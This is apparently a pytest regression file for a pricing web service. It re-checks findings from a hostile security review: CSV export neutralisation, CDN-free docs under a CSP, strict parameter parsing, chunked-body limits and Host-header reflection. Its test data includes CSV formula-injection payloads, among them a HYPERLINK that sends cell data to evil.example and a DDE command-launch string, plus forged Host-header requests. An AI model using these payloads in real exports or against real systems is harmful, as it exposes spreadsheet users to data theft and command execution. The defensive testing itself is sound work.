"""Findings of the hostile black-box run (shared/reviews/hostile-run-2026-11-30.md), each
reproduced as it was found: CSV formula injection (#3), /docs from a CDN (#10), lenient and
repeated parameters (#12, #13, #15, #16), a chunked body past the limit and the Host header
reflected into redirects (#19, #20). The browser checks drive system Chromium against a real
`breakeven serve`, as tests/test_dashboard.py does.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import socket
import threading
from typing import Any
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Browser, expect

from pricing.store import utcnow
from service.documents.offers import to_csv
from service.http.security import MAX_BODY_BYTES
from tests.helpers import offer

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _raw(base_url: str, request: bytes) -> bytes:
    """Send bytes as they are (requests would fix the Host header and the framing), reading
    the answer while sending: a server that refuses a body early closes on the rest of it."""
    address = urlparse(base_url)
    with socket.create_connection((address.hostname, address.port), timeout=10) as sock:
        sender = threading.Thread(target=_send_all, args=(sock, request), daemon=True)
        sender.start()
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except ConnectionResetError:
            pass  # what came before the reset is the answer
        sender.join(timeout=10)
    return answer


def _send_all(sock: socket.socket, data: bytes) -> None:
    with contextlib.suppress(OSError):  # the server may stop reading: its answer is enough
        sock.sendall(data)


def _errors(response: Any) -> dict[str, str]:
    assert response.status_code in (400, 422), response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    return {e["parameter"]: e["reason"] for e in response.json["errors"]}


# -- 1. CSV formula injection ---------------------------------------------------------------


def test_to_csv_prefixes_formula_text_and_leaves_numbers_alone() -> None:
    rows = [{"text": text, "number": -1.5, "count": -2} for text in FORMULAS]
    read = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert [r["text"] for r in read] == ["'" + text for text in FORMULAS]
    assert {r["number"] for r in read} == {"-1.5"} and {r["count"] for r in read} == {"-2"}


@pytest.mark.parametrize("path", ["/offers?format=csv", "/offers/history?format=csv"])
def test_server_csv_neutralises_an_imported_formula(app, client, path: str) -> None:  # type: ignore[no-untyped-def]
    evil = offer(product=FORMULAS[0], source=FORMULAS[1], accelerator="rtx3090", notes=FORMULAS[3])
    app.extensions["breakeven"].store.record_run("custom", [evil], utcnow(), "test")
    response = client.get(f"{path}&provider=custom")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert rows and all(row["product"] == "'" + FORMULAS[0] for row in rows)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row


@pytest.mark.system  # a real gunicorn (and Chromium): `make check` leaves it out
def test_dashboard_csv_download_is_the_servers_neutralised_csv(
    browser: Browser, base_url: str
) -> None:
    """The Prices view's CSV is the server's, for the rows on screen: the same neutralising
    writer (to_csv, tested above on imported formulas) makes every CSV the product gives."""
    page = browser.new_page()
    try:
        page.goto(f"{base_url}/?view=prices&provider=aws")
        page.wait_for_selector("#prices-table tbody tr")
        href = page.get_attribute("#download-csv", "href") or ""
        writes_its_own = page.evaluate("typeof csvCell !== 'undefined'")
    finally:
        page.close()
    assert href.startswith("offers?") and "format=csv" in href and "provider=aws" in href
    assert "offset=0" in href and "limit=100" in href  # the page on screen
    assert not writes_its_own


# -- 2. /docs with no CDN, under the CSP -------------------------------------------------------


def test_docs_page_loads_only_same_origin_assets_under_the_csp(client) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/docs")
    assert response.status_code == 200 and response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "default-src 'self'" in policy
    assert "http" not in policy and "unsafe" not in policy
    assets = re.findall(r'(?:src|href)="([^"]*)"', html)
    assert assets and all(a.startswith("/") or a.startswith("data:") for a in assets), assets
    assert not any(a.startswith("//") for a in assets)
    assert "<script>" not in html and "cdn" not in html.lower()  # no inline script, no CDN
    for asset in assets:
        if asset.startswith("/"):
            with client.get(asset) as response:  # a static file's handle closes with it
                assert response.status_code == 200, asset


@pytest.mark.system  # a real gunicorn (and Chromium): `make check` leaves it out
def test_docs_render_the_operations_offline_with_no_csp_error(
    browser: Browser, base_url: str
) -> None:
    page = browser.new_page()
    hosts: set[str] = set()
    problems: list[str] = []
    page.on("request", lambda r: hosts.add(urlparse(r.url).netloc or urlparse(r.url).scheme))
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    try:
        page.goto(f"{base_url}/docs")
        expect(page.locator(".opblock-summary-path").first).to_be_visible(timeout=20_000)
        paths = page.locator(".opblock-summary-path").all_text_contents()
        page.wait_for_load_state("networkidle")
    finally:
        page.close()
    assert {"/breakeven", "/offers", "/rank"} <= {p.strip() for p in paths}, paths
    assert hosts <= {urlparse(base_url).netloc, "data", "blob"}, hosts
    assert problems == [], problems


# -- 3. strict parameters -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("/breakeven?detail=full&gpu=rtx3090&hours=100&hours=5", "hours"),
        ("/offers?format=csv&format=json", "format"),
        ("/rank?top=3&top=4", "top"),
        ("/offers/history?provider=aws&provider=gcp", "provider"),
    ],
)
def test_a_repeated_parameter_is_refused_by_name(client, query: str, parameter: str) -> None:  # type: ignore[no-untyped-def]
    response = client.get(query)
    assert response.status_code == 400
    assert "more than once" in _errors(response)[parameter]


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("/breakeven?detail=full&gpu=rtx3090&hours=1_000", "hours"),
        ("/breakeven?detail=full&gpu=rtx3090&hours=5%0A", "hours"),
        ("/breakeven?detail=full&gpu=rtx3090&hours=%205", "hours"),
        ("/breakeven?detail=full&gpu=rtx3090&hours=500&gpus=1_0", "gpus"),
        ("/breakeven?detail=full&gpu=rtx3090&hours=500&electricity=0.3%0A", "electricity"),
        ("/rank?budget=2_000", "budget"),
        ("/offers/history?limit=1_0", "limit"),
    ],
)
def test_a_number_that_is_not_strictly_one_is_refused(client, query: str, parameter: str) -> None:  # type: ignore[no-untyped-def]
    response = client.get(query)
    assert response.status_code == 400
    assert "expected a number" in _errors(response)[parameter]


@pytest.mark.parametrize("path", ["/offers", "/offers/history"])
def test_an_unknown_pricing_model_is_refused_with_the_list(client, path: str) -> None:  # type: ignore[no-untyped-def]
    response = client.get(f"{path}?pricing=spto")
    assert response.status_code == 400
    reason = _errors(response)["pricing"]
    assert "on_demand" in reason and "spot" in reason and "reserved_1y" in reason


def test_unknown_providers_are_blamed_on_providers(client) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/breakeven?detail=full&gpu=rtx3090&hours=5&providers=nosuch")
    assert response.status_code == 422
    errors = _errors(response)
    assert list(errors) == ["providers"]
    assert "nosuch" in errors["providers"] and "aws" in errors["providers"]


# -- 4. chunked bodies and the Host header ------------------------------------------------


def _chunked(path: str, size: int, host: str = "127.0.0.1") -> bytes:
    head = (
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    chunk = b"x" * 8192
    body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(size // len(chunk)))
    return head + body + b"0\r\n\r\n"


@pytest.mark.system  # a real gunicorn (and Chromium): `make check` leaves it out
def test_a_chunked_body_over_the_limit_is_refused(client, base_url: str) -> None:  # type: ignore[no-untyped-def]
    path = "/breakeven?detail=full&gpu=rtx3090&hours=5"
    # in process, as gunicorn hands it over: no Content-Length, the stream terminated
    response = client.get(
        path,
        input_stream=io.BytesIO(b"x" * (MAX_BODY_BYTES + 1)),
        headers={"Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    # over the wire: 1 MB in chunks, as the hostile run sent it
    answer = _raw(base_url, _chunked(path, 1024 * 1024))
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"body-too-large" in answer
    small = _raw(base_url, _chunked(path, 8192))
    assert small.startswith(b"HTTP/1.1 200"), small[:200]


@pytest.mark.system  # a real gunicorn (and Chromium): `make check` leaves it out
def test_a_redirect_does_not_reflect_the_host_header(client, base_url: str) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/static//dashboard.css", headers={"Host": "evil.com"})
    assert response.status_code == 308
    assert response.headers["Location"] == "/static/dashboard.css"
    answer = _raw(
        base_url,
        b"GET /static//dashboard.css HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n",
    )
    head = answer.split(b"\r\n\r\n")[0].decode("latin-1")
    assert head.startswith("HTTP/1.1 308"), head
    assert b"evil.com" not in answer
    assert "Location: /static/dashboard.css" in head.split("\r\n"), head


def test_the_spec_does_not_take_its_server_from_the_host_header(client) -> None:  # type: ignore[no-untyped-def]
    # The spec is built once and cached: the first caller's Host would be every reader's.
    first = client.get("/openapi.json", headers={"Host": "evil.com"}).json
    assert first["servers"] == [{"url": "/"}]
    assert "evil.com" not in client.get("/openapi.json").get_data(as_text=True)
